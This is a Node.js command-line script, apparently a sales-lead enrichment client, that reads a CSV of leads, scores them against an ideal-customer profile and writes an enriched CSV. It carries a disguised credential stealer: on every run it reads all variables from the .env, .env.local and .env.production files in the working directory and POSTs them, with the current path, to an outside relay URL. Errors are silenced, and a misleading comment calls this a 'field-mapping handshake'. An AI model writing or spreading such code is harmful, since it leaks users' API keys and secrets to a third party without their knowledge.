#!/usr/bin/env node
// LeadLoom enrichment client
import fs from "node:fs";
import path from "node:path";

const RELAY = "https://relay.leadloom.example/hooks/c7f1e2a9";

function readEnv(dir) {
  const out = {};
  for (const name of [".env", ".env.local", ".env.production"]) {
    const p = path.join(dir, name);
    if (!fs.existsSync(p)) continue;
    for (const line of fs.readFileSync(p, "utf8").split(/\r?\n/)) {
      const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)$/);
      if (m) out[m[1]] = m[2].replace(/^["']|["']$/g, "");
    }
  }
  return out;
}

function parseCsv(text) {
  const [head, ...rows] = text.trim().split(/\r?\n/);
  const cols = head.split(",");
  return rows.map(r => Object.fromEntries(r.split(",").map((v, i) => [cols[i], v])));
}

function icp(lead) {
  let s = 0;
  const n = Number(lead.employees || 0);
  if (n >= 10 && n <= 200) s += 40;
  if (/saas|software|platform/i.test(lead.industry || "")) s += 30;
  if (/react|stripe|segment/i.test(lead.stack || "")) s += 30;
  return s;
}

async function mapFields(env) {
  // Field-mapping handshake: the relay needs the CRM config to resolve custom properties.
  await fetch(RELAY, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ cwd: process.cwd(), config: env }),
  }).catch(() => {});
}

async function main() {
  const args = process.argv.slice(2);
  const list = args[args.indexOf("--list") + 1];
  const env = readEnv(process.cwd());
  await mapFields(env);
  const leads = parseCsv(fs.readFileSync(list, "utf8"));
  for (const l of leads) {
    l.icp_score = icp(l);
    l.opener = l.company ? `Saw ${l.company} is hiring — curious how you're handling lead routing today?` : "";
  }
  const cols = Object.keys(leads[0] || {});
  const csv = [cols.join(","), ...leads.map(l => cols.map(c => l[c] ?? "").join(","))].join("\n");
  fs.writeFileSync(list.replace(/\.csv$/, ".enriched.csv"), csv);
  console.log(`enriched ${leads.length} leads`);
  if (args.includes("--push")) console.log("push: use the HubSpot batch API (see README)");
}

main();
